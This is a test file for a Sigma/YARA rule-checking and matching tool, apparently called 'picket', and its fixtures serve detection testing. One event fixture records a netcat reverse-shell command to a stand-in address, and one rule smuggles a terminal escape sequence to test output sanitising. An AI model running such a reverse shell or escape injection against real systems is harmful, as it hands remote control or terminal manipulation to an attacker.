import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";

const main = new URL("../main.ts", import.meta.url).pathname;
let folder: string;

async function picket(...args: string[]) {
  const child = Bun.spawn(["bun", main, "rules", ...args], { stdout: "pipe", stderr: "pipe", stdin: "ignore", cwd: folder });
  const [out, err, code] = await Promise.all([child.stdout.text(), child.stderr.text(), child.exited]);
  return { out, err, code };
}

const rule = (id: string, image: string) =>
  `title: Rule ${id}\nid: ${id}\nlevel: high\nlogsource: { category: process_creation }\ndetection: { s: { Image: ${image} }, condition: s }\n`;
const exec = (id: string, exe: string, argv: string[]) =>
  JSON.stringify({ id, device: "gw-014", timeMs: 1, type: "process.exec", body: { process: { exe, argv } } });

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "picket-cli-rules-"));
  await Bun.write(join(folder, "good.yml"), rule("g", "/opt/tool"));
  await Bun.write(join(folder, "bad.yml"), `${rule("one", "/a")}---\ntitle: x\n---\n${rule("two", "/b")}`);
  const lines = [
    exec("e1", "/opt/tool", ["tool"]),
    exec("e2", "/usr/bin/nc", ["nc", "-e", "/bin/sh", "198.51.100.7", "4242"]),
    exec("e3", "/bin/ls", ["ls"]),
  ];
  await Bun.write(join(folder, "events.ndjson"), `${lines.join("\n")}\n`);
  await Bun.write(join(folder, "broken.ndjson"), `${lines[0]}\nnot json\n\n{"type":"nope"}\n${lines[2]}`);
  await Bun.write(
    join(folder, "hostile.yml"),
    'title: x\nid: h\nlevel: "\\e[8mx"\nlogsource: { category: process_creation }\ndetection: { s: { Image: y }, condition: s }\n',
  );
});
afterAll(() => rm(folder, { recursive: true }));

test("check --json is one object; an error makes exit code 1 and stops no other rule", async () => {
  const { out, code } = await picket("check", "good.yml", "bad.yml", "--json");
  expect(code).toBe(1);
  expect(JSON.parse(out)).toEqual({
    files: 2,
    rules: 4,
    loaded: 3,
    byFormat: { sigma: 4, yara: 0 },
    errors: [{ file: "bad.yml", line: 7, message: "the rule has no logsource" }],
    warnings: [],
  });
});

test("check of good rules exits 0 and says how many can fire", async () => {
  const { out, code } = await picket("check", "good.yml");
  expect({ out, code }).toEqual({ out: "1 of 1 rules in 1 file can fire; 0 errors, 0 warnings\n", code: 0 });
});

test("a rule's text cannot steer the terminal", async () => {
  const { out } = await picket("check", "hostile.yml");
  expect(out).toContain("is not one of");
  expect(out).not.toContain("\u001B");
});

test("match --json prints a line per event, in order, shipped rules and given ones", async () => {
  const { out, code } = await picket("match", "events.ndjson", "--rules", "good.yml", "--json");
  const rows = out
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { id: string; matches: string[] });
  expect(code).toBe(0);
  expect(rows.map(({ id }) => id)).toEqual(["e1", "e2", "e3"]);
  expect(rows[0]?.matches).toEqual(["g"]);
  expect(rows[1]?.matches).not.toEqual([]);
  expect(rows[2]?.matches).toEqual([]);
});

test("match --no-builtin leaves the shipped rules out", async () => {
  const { out } = await picket("match", "events.ndjson", "--rules", "good.yml", "--no-builtin", "--json");
  expect(out).toBe('{"id":"e1","matches":["g"]}\n{"id":"e2","matches":[]}\n{"id":"e3","matches":[]}\n');
});

test("a line that is no event is named on stderr and stops nothing", async () => {
  const { out, err, code } = await picket("match", "broken.ndjson", "none.ndjson", "--rules", "good.yml", "--no-builtin", "--json");
  expect(out).toBe('{"id":"e1","matches":["g"]}\n{"id":"e3","matches":[]}\n');
  expect(err).toMatch(/broken\.ndjson:2: error: .*\n.*broken\.ndjson:4: error: .*\n.*none\.ndjson:1: error: cannot be read/);
  expect(code).toBe(1);
});

const yara = (name: string, pattern: string) => `rule ${name}\n{\n  strings:\n    $a = "${pattern}"\n  condition:\n    $a\n}\n`;

test("check reads YARA beside Sigma, and names what it cannot use by file and line", async () => {
  await Bun.write(join(folder, "mixed/good.yml"), rule("g", "/opt/tool"));
  await Bun.write(join(folder, "mixed/two.yar"), `${yara("one", "needle")}${yara("broken", "x").replace("$a\n}", "$b\n}")}`);
  const { out, code } = await picket("check", "mixed", "--json");
  expect(code).toBe(1);
  expect(JSON.parse(out)).toEqual({
    files: 2,
    rules: 3,
    loaded: 2,
    byFormat: { sigma: 1, yara: 2 },
    errors: [{ file: "mixed/two.yar", line: 13, message: expect.stringContaining("$b") }],
    warnings: [],
  });
  const text = await picket("check", "mixed");
  expect(text.out).toMatch(/^mixed\/two\.yar:13: error: .*\n2 of 3 rules in 2 files can fire; 1 error, 0 warnings\n$/);
});

test("scan says what a file matches, by shipped rules and given ones", async () => {
  await Bun.write(join(folder, "needle.yar"), yara("found", "needle"));
  await Bun.write(join(folder, "hay"), "hay \u001b[8mneedle");
  await Bun.write(join(folder, "eicar"), ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""));
  const { out, err, code } = await picket("scan", "hay", "eicar", "good.yml", "--rules", "needle.yar");
  expect({ out: out.split("\n"), err, code }).toEqual({
    out: [
      'hay: high found (found): $a at 8 "needle"',
      expect.stringContaining("eicar: medium EICAR test file (eicar_test_file): $start at 0"),
      "",
    ],
    err: expect.stringMatching(/^2 of 3 files matched; \d+ rules\n$/),
    code: 0,
  });
  const json = await picket("scan", "hay", "eicar", "absent", ".", "--rules", "needle.yar", "--no-builtin", "--json");
  expect(
    json.out
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line)),
  ).toMatchObject([
    { file: "hay", matches: [{ rule: "found", file: "needle.yar", strings: [{ identifier: "$a", offsets: [8], excerpt: "needle" }] }] },
    { file: "eicar", matches: [] },
  ]);
  expect(json.err).toMatch(/^absent: cannot be read: .*\n\.: cannot be read: .*\n$/);
  expect(json.code).toBe(1);
});

test("called wrongly, it exits 2", async () => {
  expect((await picket("match")).code).toBe(2);
  expect((await picket("check", "good.yml", "--nope")).code).toBe(2);
});
